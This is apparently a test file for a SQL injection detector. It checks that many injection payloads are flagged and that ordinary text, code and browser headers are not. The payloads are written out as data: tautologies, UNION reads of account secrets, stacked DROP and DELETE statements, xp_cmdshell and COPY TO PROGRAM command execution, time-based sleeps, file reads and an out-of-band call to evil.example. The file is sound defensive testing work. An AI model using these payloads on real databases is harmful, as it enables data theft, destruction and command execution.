"""Injection into SQL: what leaves a value's place in a query is found, what people and programs write is not."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.attacks.weighed import LONGEST, assert_linear, detectors, found, match_examples, subject_of, weight

from doorward.attacks.detectors.sql import SHORT
from doorward.attacks.evidence import Place, Value
from doorward.attacks.scan import PIECE
from doorward.attacks.subject import Subject
from doorward.attacks.work import Work
from doorward.builders.rule_files import plain_values

FILLER = "the quick brown fox jumps over a lazy dog and goes home " * 70
COUNTED = 0.2

CONDITIONS = {
    "number": "7 or 3=3",
    "number in parentheses": "7) or (3=3",
    "string": "x' or 'y'='y",
    "string in parentheses": "x') or ('y'='y",
    "double quotes": 'x" or "y"="y',
    "end of the string is the query's": "' or ''='",
    "value begins with it": "or 3=3",
    "not": "x' or not 3=4-- ",
    "signs": "x' || 3=3#",
    "signs of MySQL": "7 && 3=3",
    "like": "x' or 'y' like 'y",
    "in": "x' or 3 in (3)--",
    "between": "7 or 3 between 1 and 5",
    "is not null": "x' or 3 is not null--",
    "comparison of names": "7 or a=a",
    "arithmetic": "7 or 1+2=3",
    "true": "x' or true--",
    "number as condition": "x' or 3#",
    "column": "x' or name like '%y",
    "no spaces": "x'or(3)=(3)#",
    "comments for spaces": "x'/**/or/**/3=3#",
    "comments within words": "x' o/**/r 3=3#",
    "line ends for spaces": "x'\nor\n3=3#",
    "plus signs for spaces": "x'+or+3=3--",
    "no-break spaces": "x'\xa0or\xa03=3#",
    "NUL at the end": "x' or 3=3;\0",
    "upper case": "X' OR 'Y'='Y",
    "another apostrophe": "x\u02bc or 3=3--",
    "JSON": "x' or '{\"a\":3}'::jsonb @> '{}'--",
    "exponents": "7e0or 3=3",
}
QUERIES = {
    "union": "7 union select 1,2,3",
    "union in a string": "x' union all select name, secret from accounts-- ",
    "union in parentheses": "7 union(select(1),(2))",
    "union without spaces": "7/**/union/**/select/**/1,2",
    "union in conditional comments": "7 /*!50000union*/ /*!50000select*/ 1,2",
    "union after a number with an exponent": "7e0union select 1,2",
    "union of values": "x' union values(1,2)--",
    "union cut into pieces": "7 un/**/ion sel/**/ect 1,2",
    "query as a value": "(select*from(select(sleep(9)))a)",
    "query in a condition": "7 and (select count(*) from accounts)>0",
    "query joined to a string": "x'||(select name from accounts)||'y",
    "catalogue": "7 union select table_name from information_schema.tables",
    "catalogue alone": "information_schema.columns",
    "number of columns": "7 order by 9--",
    "names of columns": "x' group by a having 3=3--",
    "case": "7 and case when 3=3 then 1 else 0 end",
    "whole query": "select name, secret from accounts where id=7",
}
STATEMENTS = {
    "drop": "7; drop table accounts",
    "drop in a string": "x'; drop table accounts; --",
    "insert": "x'); insert into accounts (a) values (1);--",
    "update": "x'; update accounts set secret='y' where id=7--",
    "delete": "x'; delete from accounts--",
    "wait": "x'; waitfor delay '0:0:9'--",
    "wait without a semicolon": "7 waitfor delay '0:0:9'",
    "procedure": "7; exec xp_cmdshell 'dir'",
    "procedure alone": "xp_cmdshell",
    "variable": "7);declare @q varchar(99);set @q='x';--",
    "shutdown": "x'; shutdown--",
    "program": "7; copy (select '') to program 'id'",
    "file": "x' into outfile '/tmp/y'#",
    "statement alone": "drop table accounts",
    "hexadecimal": "0x" + b"; drop table accounts".hex(),
}
CALLS = {
    "wait": "7 and sleep(9)",
    "wait in a string": "x' and sleep(9) and 'y'='y",
    "wait by arithmetic": "x'-sleep(9)-'",
    "wait of PostgreSQL": "7;select pg_sleep(9)",
    "wait of Oracle": "x'||dbms_pipe.receive_message('y',9)||'",
    "wait by work": "7 or benchmark(9999999,md5(1))",
    "wait if": "if(now()=sysdate(),sleep(9),0)",
    "error": "x' and extractvalue(1,concat(0x7e,version()))-- ",
    "error by a cast": "x' and 3=cast((select version()) as int)--",
    "letters": "7 and ascii(substring((select user()),1,1))>64",
    "file": "(select load_file('/etc/hosts'))",
    "other host": "x'||utl_http.request('http://evil.example')||'",
    "beginning of a call": "group_concat(",
}
ENDS = {
    "dashes": "admin'--",
    "dashes and a space": "admin' -- ",
    "number sign": "admin'#",
    "comment": "admin'/*",
    "parentheses": "admin')--",
    "semicolon": "admin';--",
    "arithmetic": "'-'",
    "equation": "'='",
}
ATTACKS = {
    f"{kind}: {name}": text
    for kind, texts in {
        "condition": CONDITIONS, "query": QUERIES, "statement": STATEMENTS, "call": CALLS, "end": ENDS,
    }.items()
    for name, text in texts.items()
}  # fmt: skip
ORDINARY = {
    "Irish name": "O'Brien",
    "two names": "Conan O'Brien or D'Angelo Barksdale",
    "dashes": "D'Angelo's pizza -- the best",
    "semicolon": "I'd like 5 or 6; thanks",
    "equation": "1 = 1 is a tautology",
    "apostrophes": "rock 'n' roll or 'pop'",
    "clock": "it's 5 o'clock -- or 6?",
    "feet": "5' or 6'",
    "inches": "6'2\" and 200 lbs",
    "select": "select a colour from the list",
    "union": "union of students: select committee",
    "drop": "drop the table off",
    "not": "having fun or not",
    "exec": "exec summary",
    "order": "order by price",
    "case": "in case when it rains then we stay",
    "sleep": "sleep(8) hours a day is healthy",
    "quotation": "he said 'yes' or 'no'",
    "two companies": "AT&T; Verizon",
    "hash tags": "#sql or #nosql",
    "password": "p'a\"s--s#w;rd",
    "range": "between 5 and 10 or so",
    "joke": "SELECT * FROM menu is my favourite SQL joke",
    "types": "std::string or std::vector",
}
CODE = {
    "Python": "if a == 'x' or b == 'y':\n    return 'z' and c",
    "JavaScript": "if (a === 'x' && b === 'y') { return c || 'z'; }",
    "assignment": "x = '1' or 'a'",
    "shell": "if [ \"$a\" = 'x' ] || [ \"$b\" = 'y' ]; then echo 'z'; fi",
    "CSS": "a { color: red; } /* note */ b > c { content: '--'; }",
    "C": "int x = 1; /* select one */ char *s = \"a\"; // or 'b'",
    "Lucene": 'status:open OR label:"bug"',
    "OData": "$filter=Name eq 'x' or Name eq 'y'",
    "JQL": 'project = X AND status = "Open" ORDER BY created',
    "GraphQL": '{ user(id: "1") { name posts(first: 5) { title } } }',
    "spreadsheet": '=IF(A1="x",SUM(B1:B9),0)',
    "JSON": '{"a": "b", "c": [1, 2], "d": "select"}',
    "Markdown": "| a | b |\n|---|---|\n| 'x' | `y` |\n\n---\n-- \nJane",
    "CSV": "'a','b','c'\n'1','2','3'",
    "HTML": "<select name='x'><option value='1'>or</option></select>",
}
HEADERS = {
    "agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "brands": '"Chromium";v="128", "Not;A=Brand";v="24", "Google Chrome";v="128"',
    "entity": 'W/"5e-abc", "x"',
    "type": 'multipart/form-data; boundary="----x"',
    "challenge": 'Digest realm="a", qop="auth,auth-int", nonce="x", opaque="y"',
    "cookies": "_ga=GA1.2.1.2; _gid=GA1.2.3; x='y'",
}
QUESTION = f"""Why does this query return nothing?

```sql
SELECT a.name, b.total FROM accounts a JOIN bills b ON a.id = b.account
WHERE a.city = 'Cork' OR a.city = 'Galway' AND b.total > 10
UNION ALL
SELECT name, 0 FROM strangers ORDER BY 1;
DELETE FROM bills WHERE total = 0; -- they are empty
```

I tried it with `or 1=1` and without. {FILLER[:400]}
"""
HOSTILE = [
    "'", "\"'", "' or ", "'or(", "' or 1 in (", "' or 'a'='", "'||'", "' union select a,", "(", "((select ", "1,", "@@",
    "/*", "*/", "/**/", "/*!", "--", ";", "';drop ", "or 1=", "select a,", "case when 1=", "x'n'", "0x41", "union ",
    "order ", "' or a.a.a", "like '", "\\", " ", "\t'", "a", "handler a", "{", "::int", "if(a=",
]  # fmt: skip


@pytest.mark.parametrize("name", ATTACKS)
def test_injections_are_conclusive(name: str) -> None:
    """Whatever the database, the place in the query, and the way in which words are kept apart."""
    assert weight("sql", ATTACKS[name]) >= 1


@pytest.mark.parametrize("place", [Place.HEADER, Place.COOKIE, Place.PATH, Place.JSON])
def test_the_place_does_not_matter(place: Place) -> None:
    """A header goes into a query as well."""
    assert weight("sql", "x' or 'y'='y", place) >= 1


@pytest.mark.parametrize("name", ORDINARY)
def test_what_people_write_is_nothing(name: str) -> None:
    """Apostrophes, dashes, and words that SQL has too."""
    assert weight("sql", ORDINARY[name]) < COUNTED


@pytest.mark.parametrize("name", CODE)
def test_other_languages_are_nothing(name: str) -> None:
    """A string that ends before a condition has begun in the same value."""
    assert weight("sql", CODE[name]) < COUNTED


@pytest.mark.parametrize("name", HEADERS)
def test_headers_of_browsers_are_nothing(name: str) -> None:
    """They have quotes, semicolons and parentheses."""
    assert weight("sql", HEADERS[name], Place.HEADER, name) < COUNTED


def test_questions_about_sql_are_not_conclusive() -> None:
    """A long text with whole statements in it is no statement."""
    assert len(QUESTION) > SHORT
    assert weight("sql", QUESTION) < 1


@pytest.mark.parametrize(
    "attack",
    ["' UNION SELECT a,b FROM c--", "' or '1'='1", "' or 3=3-- ", "'; drop table accounts;--", "' and sleep(9)-- "],
)
def test_explicit_attacks_are_found_at_the_end_of_long_texts(attack: str) -> None:
    """Filler in front of them is a part of the string that they leave."""
    assert weight("sql", FILLER[: LONGEST - len(attack)] + attack) >= 1


@pytest.mark.parametrize("attack", ["7 or 3=3-- ", "admin'-- ", "7;drop table accounts-- ", "x' and sleep(9)-- "])
def test_what_is_behind_a_comment_does_not_hide(attack: str) -> None:
    """To the query it is not there."""
    assert weight("sql", attack + FILLER[: LONGEST - len(attack)]) >= 1


@pytest.mark.parametrize(
    "text",
    [
        "7" + " " * 4_000 + "or 3=3",
        "7/*" + "x" * 4_000 + "*/or 3=3",
        "x" * 4_000 + "' and sleep(9)#",
        "7 and 0x" + "41" * 1_000 + "=3",
    ],
    ids=["spaces", "comment", "word", "hexadecimal"],
)
def test_filler_that_is_one_thing_is_taken_out(text: str) -> None:
    """A long run of spaces, a long comment, a long word: what is left is short."""
    assert weight("sql", text) >= 1


def test_later_pieces_may_begin_within_a_comment() -> None:
    """A value that is longer than a piece: ``1/*…*/or 1=1`` with the comment in the first."""
    piece = "x" * 900 + "*/or 3=3"
    value = Value(Place.QUERY, "q", piece, False, PIECE)
    (detector, *_) = detectors("sql")
    assert any(evidence.weight >= 1 for evidence in detector.examine(Subject(piece, value), Work(LONGEST)))


def test_evidence_says_where() -> None:
    """From the quote to the end of the condition, also behind comments and in long texts."""
    (detector, *_) = detectors("sql")
    for before in ("Jane", "/* a */ Jane", FILLER):
        text = before + "' or 'y'='y"
        evidence = list(detector.examine(subject_of(text), Work(LONGEST)))
        assert "' or 'y'='y" in {text[one.start : one.end] for one in evidence}


def test_the_beginning_of_a_test_is_not_plain() -> None:
    """It has no mark that sentences do not have: the word has to be told."""
    assert weight("sql", "if(2=") >= 1
    assert not plain_values()("if(2=")


def test_lone_ends_of_strings_are_weak() -> None:
    """That is how injections are looked for; alone they are little, and a quote alone is a unit of length."""
    assert found("sql", subject_of("')")) == {"sql.probe": 0.3}
    assert found("sql", subject_of("'")) == {}


@pytest.mark.parametrize("unit", HOSTILE)
def test_work_is_proportional_to_length(unit: str) -> None:
    """Twice the text is at most about twice the work, and within what a scan may cost."""
    assert_linear("sql", unit, 64)


AROUND = st.text(alphabet="ab 1'\"();,.:=-/*#+\n", max_size=20)


@given(st.sampled_from(match_examples("sql")), AROUND, AROUND)
def test_the_screen_lets_through_what_is_found(example: str, before: str, after: str) -> None:
    """Also with other text around it, as where values are asked about together."""
    text = before + example + after
    for detector in detectors("sql"):
        if list(detector.examine(subject_of(text), Work(LONGEST))):
            assert detector.wants(subject_of(text))
            assert detector.wants(Subject(f"name {text} other", Value(Place.QUERY, "q", "name")))


QUOTED_PROSE = st.sampled_from([
    'My sister said: "Drop them & update your order where you can"; so I did.', "they're", "O'Neill", "doesn't", "12",
    'she wrote "delete it", then called', "(really)", "Thanks!", "the 'best' one; they say", "please",
])  # fmt: skip


@given(st.lists(QUOTED_PROSE, min_size=3, max_size=8).map(" ".join))
def test_ordinary_sentences_are_not_even_read(text: str) -> None:
    """Apostrophes, quotations, verbs in them, and semicolons behind them: nothing that a query could go on with."""
    (detector, *_) = detectors("sql")
    assert not detector.wants(subject_of(f"Hello. {text}"))


@pytest.mark.parametrize(
    "verb", ["drop table a", "delete from a where b", "declare @a", "exec xp_cmdshell", "sleep(3)"]
)
@pytest.mark.parametrize("before", ["'; ", "x'; ", "x');", "a b c d e f g h i j k 'l'; ", "'\\;", "x' ; "])
def test_statements_behind_strings_are_read(before: str, verb: str) -> None:
    """However long the string is that they end; what the screen spares begins with a word of no statement."""
    (detector, *_) = detectors("sql")
    assert detector.wants(subject_of(before + verb))
    assert detector.wants(Subject(f"name {before}{verb} other", Value(Place.QUERY, "q", "name")))


@pytest.mark.parametrize("before", ["'", '"', "(('", "x'", "';' '", "/* a b c d e f g */ '"])
def test_statements_at_the_beginning_are_read(before: str) -> None:
    """Behind quotes that only a few signs precede."""
    (detector, *_) = detectors("sql")
    assert detector.wants(subject_of(before + "declare @a int"))


@given(st.text(alphabet="abor 1'\"();,.:=-/*#+@|&!<>select\n\x00", max_size=200))
def test_evidence_lies_within_the_text(text: str) -> None:
    """Whatever is found in whatever text."""
    for detector in detectors("sql"):
        for evidence in detector.examine(subject_of(text), Work(LONGEST)):
            assert 0 <= evidence.start <= evidence.end <= len(text)
            assert 0 < evidence.weight <= 1
